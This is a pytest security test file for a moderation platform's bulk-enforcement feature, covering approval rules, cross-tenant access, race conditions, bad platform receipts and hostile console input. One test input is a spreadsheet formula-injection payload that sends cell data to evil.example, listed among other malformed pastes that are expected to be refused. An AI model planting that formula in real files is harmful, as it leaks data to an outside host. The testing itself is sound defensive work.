"""Trying to break bulk enforcement (issue 24) as an insider and as a misbehaving
platform (SPEC BULK-1..8, FOUR-1, FOUR-9, FOUR-10). Each test asserts a promise; a
failure is a finding."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from app.domain.bulk.subjects import DUPLICATE, parse_subject_list
from app.domain.clock import utcnow
from app.domain.errors import ApiError
from app.extensions import db
from app.models import ConnectionHealth, ActionApproval, ActionProposal, AuditEvent, BulkBatch, BulkItem, Decision, Report
from app.services.bulk.actions import bulk_actions
from app.services.bulk.batch_approval import approve_batch, reject_batch
from app.services.bulk.controls import cancel_batch, pause_batch, resume_batch
from app.services.bulk.dry_runs import start_dry_run
from app.services.bulk.progress import ledger
from app.services.bulk.submission import submit_batch
from app.services.bulk.undo import start_undo
from app.services.lifecycle.dispatch import deliver
from app.services.uow import unit_of_work
from tests import scripted as s
from tests.builders import at_once, make_operator, make_team, run_worker, set_row

P = ActionProposal
DID = "did:plc:abcdefghijklmnopqrstuvwx"


def _dry_run(team, lines, maker: str = "moderator") -> str:
    action = bulk_actions(db.session, team.installation_id)[0]
    return start_dry_run(
        make_operator(team.installation_id, maker),
        selection={"source": "list", "text": "\n".join(lines)},
        action_key=action.key,
        decision_code=action.decision_code,
        reason="spam network",
    )


def _submitted(team, lines, maker: str = "moderator") -> tuple[str, str]:
    batch_id = _dry_run(team, lines, maker)
    batch = db.session.get(BulkBatch, batch_id)
    return batch_id, submit_batch(make_operator(team.installation_id, maker), batch_id, batch.dry_run_digest)


def _batch(batch_id: str) -> BulkBatch:
    db.session.rollback()
    return db.session.get(BulkBatch, batch_id)


def _count(model, *where) -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def _rows() -> dict[str, int]:
    return {m.__name__: _count(m) for m in (BulkBatch, BulkItem, P, ActionApproval, Decision, Report, AuditEvent)}


def _refused(call, *args) -> ApiError:
    with pytest.raises(ApiError) as refused:
        call(*args)
    return refused.value


# --- FOUR-10 / BULK-1 / BULK-2: one subject named in two forms ---------------------------


def test_bulk_1_four_10_one_account_named_as_did_and_as_at_uri_is_a_duplicate():
    """BULK-1: `did:plc:x` and `at://did:plc:x` name the same account (subject_kind
    calls both ``account``); a list naming it twice is refused as a duplicate."""
    subjects, errors = parse_subject_list(f"{DID}\nat://{DID}", cap=10)
    assert [e.code for e in errors] == [DUPLICATE], (subjects, errors)


@pytest.mark.parametrize("protected, spelled", [(DID, f"at://{DID}"), ("post:901", "POST:901")])
def test_bulk_2_a_protected_subject_stays_protected_however_it_is_spelled(app, team, protected, spelled):
    """BULK-2: a subject on BULK_PROTECTED_SUBJECTS is never acted on in bulk, however
    the list spells the same subject (an account as its at-uri; a type prefix in
    another case, which `subject_kind` reads case-insensitively)."""
    app.config["BULK_PROTECTED_SUBJECTS"] = [protected]
    batch_id = _dry_run(team, [spelled, "post:1"])
    batch = _batch(batch_id)
    acting = db.session.scalars(select(BulkItem.subject_reference).where(
        BulkItem.batch_id == batch_id, BulkItem.outcome == "would_act")).all()
    assert acting == ["post:1"], batch.counts


# --- FOUR-1: who may approve -------------------------------------------------------------


@pytest.mark.parametrize("maker", ["reviewer2", "admin"])
def test_bulk_3_four_1_a_maker_with_the_reviewer_role_cannot_approve_or_reject_own_batch(app, team, maker):
    """BULK-3, FOUR-1: a maker who also holds the reviewer role (reviewer2, admin)
    can neither approve nor reject their own batch; nothing is written."""
    batch_id, digest = _submitted(team, ["post:1", "post:2"], maker=maker)
    before = _rows()
    me = make_operator(team.installation_id, maker)
    assert _refused(approve_batch, me, batch_id, digest).code == "bulk_approval_refused"
    assert _refused(reject_batch, me, batch_id, digest, "not spam").code == "bulk_approval_refused"
    assert _rows() == before and _batch(batch_id).state == "submitted"


def test_bulk_8_four_1_the_original_maker_and_approver_cannot_approve_its_undo(app, team):
    """BULK-8, FOUR-1: the undo of a batch is approved by none of its makers: the
    undo's maker, the original's maker or the original's approver."""
    batch_id, digest = _submitted(team, ["post:1", "post:2"], maker="reviewer2")
    approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    run_worker(app)
    assert _batch(batch_id).state == "completed"
    undo_id = start_undo(make_operator(team.installation_id, "moderator"), batch_id, "wrong network")
    undo = _batch(undo_id)
    before = _rows()
    for who in ("reviewer2", "reviewer"):  # the original's maker, its approver
        error = _refused(approve_batch, make_operator(team.installation_id, who), undo_id, undo.batch_digest)
        assert error.code == "bulk_approval_refused", who
    assert _rows() == before


def test_bulk_7_four_9_the_maker_cannot_cancel_own_approved_batch_even_as_a_reviewer(app, team):
    """BULK-7, FOUR-9: a maker holding the reviewer role cannot cancel the batch alone."""
    batch_id, digest = _submitted(team, ["post:1", "post:2"], maker="reviewer2")
    approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    maker = make_operator(team.installation_id, "reviewer2")
    pause_batch(maker, batch_id)  # pausing alone is allowed
    error = _refused(cancel_batch, maker, batch_id, "changed my mind")
    assert (error.status, error.code) == (403, "bulk_cancel_refused")
    assert _batch(batch_id).state == "paused"
    resume_batch(maker, batch_id)
    run_worker(app)
    assert len(team.demo_platform.state.effects) == 2


def test_bulk_3_another_installations_operator_sees_no_batch(app, team):
    """BULK-3: every step on another installation's batch id answers 404 and writes
    nothing."""
    batch_id, digest = _submitted(team, ["post:1"])
    other = make_team(None)
    before = _rows()
    for name in ("reviewer", "admin"):
        intruder = make_operator(other.installation_id, name)
        for call, args in ((approve_batch, (digest,)), (reject_batch, (digest, "not spam")),
                           (submit_batch, (digest,)), (pause_batch, ()), (resume_batch, ()),
                           (cancel_batch, ("wrong network",)), (start_undo, ("wrong network",))):
            error = _refused(call, intruder, batch_id, *args)
            assert (error.status, error.code) == (404, "bulk_batch_not_found"), (name, call.__name__, error.code)
    assert _rows() == before


# --- BULK-3: the batch after approval; stale, expired, twice ------------------------------


def test_bulk_3_a_digest_of_another_batch_does_not_approve_this_one(app, team):
    """BULK-3: approving with the digest of a batch submitted after is refused."""
    first, _ = _submitted(team, ["post:1"])
    _, second_digest = _submitted(team, ["post:2"])
    before = _rows()
    error = _refused(approve_batch, make_operator(team.installation_id, "reviewer"), first, second_digest)
    assert error.code == "bulk_batch_digest_mismatch" and _rows() == before


def test_bulk_3_an_expired_batch_cannot_be_approved(app, team):
    """BULK-3: a submitted batch past its expiry cannot be approved; nothing sent."""
    batch_id, digest = _submitted(team, ["post:1", "post:2"])
    set_row(BulkBatch, batch_id, expires_at=utcnow() - timedelta(seconds=1))
    before = _rows()
    error = _refused(approve_batch, make_operator(team.installation_id, "reviewer"), batch_id, digest)
    assert error.code == "bulk_batch_expired" and _rows() == before
    run_worker(app)
    assert team.demo_platform.state.effects == {} or len(team.demo_platform.state.effects) == 0


def test_bulk_3_an_expired_dry_run_cannot_be_submitted(app, team):
    """BULK-2: a dry run past its expiry cannot be submitted."""
    batch_id = _dry_run(team, ["post:1"])
    set_row(BulkBatch, batch_id, expires_at=utcnow() - timedelta(seconds=1))
    batch = _batch(batch_id)
    before = _rows()
    error = _refused(submit_batch, make_operator(team.installation_id, "moderator"), batch_id, batch.dry_run_digest)
    assert error.code == "bulk_dry_run_expired" and _rows() == before


def test_bulk_3_approve_twice_and_reject_after_approve_are_refused(app, team):
    """BULK-3: a second approval or a rejection after the approval changes nothing."""
    batch_id, digest = _submitted(team, ["post:1", "post:2"])
    approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    before = _rows()
    assert _refused(approve_batch, make_operator(team.installation_id, "admin"), batch_id, digest).code == (
        "bulk_batch_not_pending")
    assert _refused(reject_batch, make_operator(team.installation_id, "admin"), batch_id, digest, "nope").code == (
        "bulk_batch_not_pending")
    assert _rows() == before


def test_bulk_3_two_reviewers_approving_at_once_approve_each_item_once(app, team):
    """BULK-3: two approvals at the same moment: one wins, the other is refused with
    a clear code (never a crash), one approval row per item, each item sent once."""
    batch_id, digest = _submitted(team, [f"post:{n}" for n in range(20)])
    installation = team.installation_id

    def approver(name):
        return lambda: approve_batch(make_operator(installation, name), batch_id, digest)

    make_operator(installation, "admin")  # created before the race
    results = at_once(app, [approver("reviewer"), approver("admin")])
    assert [r for r in results if isinstance(r, dict)] == [{"approved": 20, "skipped": 0}], results
    assert _count(ActionApproval) == 20
    run_worker(app)
    assert len(team.demo_platform.state.effects) == 20
    loser = next(r for r in results if not isinstance(r, dict))
    assert isinstance(loser, ApiError) and loser.status == 409, repr(loser)  # not a raw IntegrityError (a 500)


def test_bulk_3_submitting_twice_at_once_makes_one_set_of_proposals(app, team):
    """BULK-3: the maker submitting the same dry run twice at once: one submission,
    the other refused with a clear code (never a crash), one proposal per item."""
    batch_id = _dry_run(team, [f"post:{n}" for n in range(20)])
    digest = _batch(batch_id).dry_run_digest
    installation = team.installation_id

    def submit():
        return submit_batch(make_operator(installation, "moderator"), batch_id, digest)

    results = at_once(app, [submit, submit])
    assert len([r for r in results if isinstance(r, str)]) == 1, results
    assert _count(P, P.bulk_batch_id == batch_id) == 20
    assert _count(Report, Report.external_id == f"bulk:{batch_id}") == 1
    loser = next(r for r in results if not isinstance(r, str))
    assert isinstance(loser, ApiError) and loser.status == 409, repr(loser)  # not a raw IntegrityError (a 500)


def test_bulk_3_approve_and_reject_at_once_end_in_one_state(app, team):
    """BULK-3: an approval and a rejection at the same moment: the batch ends either
    running with every item approved or rejected with none sent, the other step
    refused with a clear code."""
    batch_id, digest = _submitted(team, [f"post:{n}" for n in range(20)])
    installation = team.installation_id
    make_operator(installation, "admin")
    results = at_once(app, [
        lambda: approve_batch(make_operator(installation, "reviewer"), batch_id, digest),
        lambda: reject_batch(make_operator(installation, "admin"), batch_id, digest, "not spam"),
    ])
    state = _batch(batch_id).state
    approvals = _count(ActionApproval)
    assert (state, approvals) in (("running", 20), ("rejected", 0)), (state, approvals, results)
    run_worker(app)
    assert len(team.demo_platform.state.effects) == (20 if state == "running" else 0)
    loser = results[1] if state == "running" else results[0]
    assert isinstance(loser, ApiError) and loser.status == 409, repr(loser)


# --- Platform misbehaving -------------------------------------------------------------------


def _items(batch_id: str) -> list[ActionProposal]:
    db.session.rollback()
    return db.session.scalars(select(P).where(P.bulk_batch_id == batch_id).order_by(P.id)).all()


def _approved(team, count: int) -> str:
    batch_id, digest = _submitted(team, [f"post:{n}" for n in range(count)])
    approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    return batch_id


def test_bulk_6_a_receipt_naming_another_item_or_a_changed_digest_applies_nothing(app, httpserver):
    """BULK-6: a receipt for another item's action id, or with a changed payload
    digest, does not mark an item applied; the item that got a valid receipt is
    applied once; the ledger adds up."""
    team = make_team(httpserver.url_for("/"))
    script = s.Script(s.applied())
    rules: dict[str, str] = {}
    ids: list[str] = []

    def handler(request):
        body = request.get_json()
        rule = rules.get(body["action_id"])
        if rule == "other":
            other = next(i for i in ids if i != body["action_id"])
            return s.json_response(s.receipt_for({**body, "action_id": other}))
        if rule == "digest":
            return s.json_response(s.receipt_for({**body, "payload_digest": "sha256:" + "0" * 64}))
        return script(request)

    httpserver.expect_request("/actions/takedown", method="POST").respond_with_handler(handler)
    batch_id = _approved(team, 3)
    items = _items(batch_id)
    ids.extend(p.id for p in items)
    rules[items[0].id], rules[items[1].id] = "other", "digest"
    for item in items:
        deliver(item.id)
    rows = {p.id: p for p in _items(batch_id)}
    assert rows[items[0].id].state != "applied", rows[items[0].id].state
    assert rows[items[1].id].state != "applied", rows[items[1].id].state
    assert rows[items[2].id].state == "applied"
    book = ledger(db.session, _batch(batch_id))
    assert book.adds_up and book["applied"] == 1, book


def test_bulk_6_a_429_storm_and_duplicate_receipts_apply_each_item_once_and_complete(app, httpserver):
    """BULK-6: the platform answers 429 (Retry-After 0) to the first 7 requests (fewer
    than an item's attempts per cycle, 8), then
    applies, answering a repeated key with the same receipt: every item applied once
    on the platform's side, the batch completes and its ledger adds up."""
    team = make_team(httpserver.url_for("/"))
    script = s.Script(*([s.http_status(429, {"Retry-After": "0"})] * 7), s.applied())
    httpserver.expect_request("/actions/takedown", method="POST").respond_with_handler(script)
    batch_id = _approved(team, 5)
    for _ in range(40):
        open_items = [p for p in _items(batch_id) if p.state not in ("applied",) and not p.delivery_terminal]
        if not open_items:
            break
        with unit_of_work() as uow:  # time travel: the pause a 429 asked for is over
            uow.session.execute(update(ConnectionHealth).values(paused_until=None))
            uow.session.execute(update(P).where(P.id.in_([p.id for p in open_items])).values(next_attempt_at=utcnow()))
            uow.commit()
        for item in open_items:
            deliver(item.id)
    book = ledger(db.session, _batch(batch_id))
    assert book.adds_up and book["applied"] == 5, (book, [(p.state, p.last_error_code, p.delivery_terminal, p.delivery_attempt_count) for p in _items(batch_id) if p.state != "applied"], len(script.requests))
    assert sorted(script.effects.values()) == [1] * 5
    assert _batch(batch_id).state == "completed"


@pytest.mark.parametrize("text", ['reference,kind\n"post:1,post\n', 'reference\n"post:1"x\n'])
def test_bulk_1_a_csv_row_with_broken_quotes_is_refused_not_read_as_another_reference(text):
    """BULK-1: a CSV row whose quotes are broken is answered as a bad row (the
    reader's own message "check its quotes"), not silently turned into another
    subject (``post:1,post``, ``post:1x``)."""
    subjects, errors = parse_subject_list(text, cap=10)
    assert subjects == [] and [e.line for e in errors] == [2], (subjects, errors)


# --- Bad input through the console --------------------------------------------------------


def _web_rows() -> dict[str, int]:
    return {m.__name__: _count(m) for m in (BulkBatch, BulkItem, P, ActionApproval, Decision)}


def test_bulk_1_hostile_pastes_and_uploads_are_refused_never_500_nothing_stored(app, client, team):
    """BULK-1, FOUR-10: a 1 MB paste, bidi and lookalike characters, NUL, a formula,
    a broken CSV, a binary upload: each refused with a clear status, nothing stored."""
    import io

    from tests.web.test_bulk_pages import dry_run, new_form, sign_in

    token = sign_in(client, team, "moderator")
    before = _web_rows()
    pastes = {
        "1 MB": "post:1\n" * (1024 * 1024 // 7 + 1),
        "just under the form limit": "p:" + "x" * 400 + "\n" * 2 + ("post:1\n" * 140_000),
        "bidi": "post:1\u202e2",
        "lookalike": "p\u043est:1",
        "zero width": "post:\u200b1",
        "NUL": "post:\x001",
        "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "duplicates": "post:1\npost:1\n",
        "over the cap": "\n".join(f"post:{n}" for n in range(1001)),
    }
    for name, text in pastes.items():
        response = dry_run(client, token, [text])
        assert response.status_code in (400, 413), (name, response.status_code)
    action = new_form(client)
    for name, payload in {"binary": b"\xff\xfe\x00\x01post:1", "latin-1": "post:caf\xe9".encode("latin-1")}.items():
        response = client.post("/bulk/new", data={"csrf_token": token, "source": "list", "action": action,
                                                  "reason": "spam network", "file": (io.BytesIO(payload), "x.csv")},
                               content_type="multipart/form-data")
        assert response.status_code in (400, 413), (name, response.status_code)
    for form in ({"source": "nope"}, {"source": "reports"}, {"source": "author", "author_reference": "\u202e"},
                 {"source": "reports", "category": "x" * 10_000, "received_from": "yesterday"},
                 {"action": "x|y"}, {"action": "|"}, {"reason": ""}):
        data = {"csrf_token": token, "source": "list", "subjects": "post:1", "action": action,
                "reason": "spam network", **form}
        response = client.post("/bulk/new", data=data)
        assert response.status_code in (400, 403, 404, 409), (form, response.status_code)
    assert _web_rows() == before


def test_bulk_3_bad_digests_and_reasons_on_every_step_never_500_nothing_stored(app, client, team):
    """BULK-3, BULK-7, BULK-8: odd digests and reasons on every step answer a clear
    status and change no row."""
    from tests.web.test_bulk_pages import sign_in, submitted

    batch_id, _ = submitted(client, team, ["post:1", "post:2"])
    token = sign_in(client, team, "reviewer")
    before = _web_rows()
    for step in ("submit", "approve", "reject", "pause", "resume", "cancel", "undo"):
        for data in ({}, {"digest": ""}, {"digest": "x" * 100_000}, {"digest": ["a", "b"]},
                     {"digest": "\x00", "reason": "\x00\x00\x00"}, {"digest": "sha256:" + "0" * 64, "reason": "r" * 6000}):
            response = client.post(f"/bulk/{batch_id}/{step}", data={"csrf_token": token, **data})
            assert response.status_code in (303, 400, 403, 404, 409), (step, data.keys(), response.status_code)
            assert response.status_code != 303 or step in ("pause", "resume"), (step, data)
    assert _web_rows() == before and _batch(batch_id).state == "submitted"


def test_bulk_7_four_9_a_single_retry_does_not_resend_an_item_of_a_cancelled_batch(app, httpserver):
    """BULK-7, FOUR-9: after a cancel, the batch's maker (a reviewer too) retrying a
    cancelled-after-sending item alone (RTRY-1) sends nothing: the item stays failed
    or is refused, the platform sees no new request, the ledger adds up."""
    from app.services.lifecycle.retry import retry_proposal

    team = make_team(httpserver.url_for("/"))
    script = s.Script(s.http_status(503), s.applied())
    httpserver.expect_request("/actions/takedown", method="POST").respond_with_handler(script)
    batch_id, digest = _submitted(team, ["post:1"], maker="reviewer2")
    approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    item = _items(batch_id)[0]
    deliver(item.id)  # 503: sent once, waiting to be retried
    cancel_batch(make_operator(team.installation_id, "reviewer"), batch_id, "wrong network")
    item = _items(batch_id)[0]
    assert item.state == "failed" and item.delivery_terminal
    requests = len(script.requests)
    try:
        retry_proposal(item.id, payload_digest=item.payload_digest, idempotency_key="again-1",
                       operator=make_operator(team.installation_id, "reviewer2"))
    except ApiError:
        pass
    run_worker(app)
    deliver(item.id)
    assert len(script.requests) == requests and script.effects == {}
    book = ledger(db.session, _batch(batch_id))
    assert book.adds_up and book["applied"] == 0, book
    assert _batch(batch_id).state == "cancelled"


def test_bulk_4_a_subject_protected_after_submission_is_skipped_at_approval(app, team):
    """BULK-2, BULK-4: a subject put on the protected list between submission and
    approval is skipped with its code and never sent."""
    batch_id, digest = _submitted(team, [f"post:{n}" for n in range(20)])
    app.config["BULK_PROTECTED_SUBJECTS"] = ["post:3"]
    result = approve_batch(make_operator(team.installation_id, "reviewer"), batch_id, digest)
    assert result == {"approved": 19, "skipped": 1}
    run_worker(app)
    item = db.session.scalar(select(BulkItem).where(BulkItem.batch_id == batch_id,
                                                    BulkItem.subject_reference == "post:3"))
    assert item.skip_code == "bulk_subject_protected"
    assert len(team.demo_platform.state.effects) == 19
    book = ledger(db.session, _batch(batch_id))
    assert book.adds_up and book["applied"] == 19 and book["skipped"] == 1, book
